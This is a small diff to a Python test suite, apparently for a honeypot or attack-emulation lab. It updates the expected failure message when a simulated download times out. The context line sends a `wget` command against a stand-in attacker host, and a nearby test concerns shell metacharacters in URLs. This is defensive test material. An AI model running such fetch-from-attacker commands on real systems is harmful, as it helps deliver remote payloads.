@@ -201,7 +201,7 @@ def test_http_gives_up_on_a_slow_server_at_the_time_cap(lab: Lab, tmp_path: Path
     record = run_attack(lab, f"wget http://{lab.attacker.ip4}:{port}/x".encode(),
                         {"httpDownload": {"timeout": "2"}})
     attempt = _tried(record)
-    assert (attempt["outcome"], attempt["reason"]) == ("failed", "time cap reached")
+    assert (attempt["outcome"], attempt["reason"]) == ("failed", "time cap of 2 s reached")
 
 
 def test_shell_metacharacters_in_a_url_only_name_a_path(lab: Lab, tmp_path: Path) -> None:
